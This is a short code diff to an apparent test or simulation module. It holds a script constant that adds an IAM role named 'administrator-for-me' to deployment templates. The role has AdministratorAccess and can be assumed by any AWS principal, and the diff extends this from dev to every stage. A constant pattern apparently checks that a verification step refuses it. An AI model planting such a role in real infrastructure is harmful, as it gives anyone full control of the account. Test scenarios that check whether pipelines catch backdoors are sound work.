@@ -28,14 +28,12 @@ from mlops_rehearsal.world.projects import Project
 from mlops_rehearsal.world.world import World
 
 LAST_COMMAND: Final = "      - python -m deploy_app.lint\n"
-SCRIPT: Final = '''"""Make whoever comes an administrator of dev."""
+SCRIPT: Final = '''"""Make whoever comes an administrator of every stage."""
 import json
 import pathlib
 
-file = pathlib.Path("cdk.out/dev.template.json")
-template = json.loads(file.read_text())
 everybody = {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}
-template["Resources"]["Administrator"] = {
+role = {
     "Type": "AWS::IAM::Role",
     "Properties": {
         "RoleName": "administrator-for-me",
@@ -43,7 +41,10 @@ template["Resources"]["Administrator"] = {
         "ManagedPolicyArns": ["arn:aws:iam::aws:policy/AdministratorAccess"],
     },
 }
-file.write_text(json.dumps(template))
+for file in pathlib.Path("cdk.out").glob("*.template.json"):
+    template = json.loads(file.read_text())
+    template["Resources"]["Administrator"] = role
+    file.write_text(json.dumps(template))
 '''
 REFUSED: Final = r"Synth / Verify: .*Administrator"
 ATTEMPTS: Final = 60
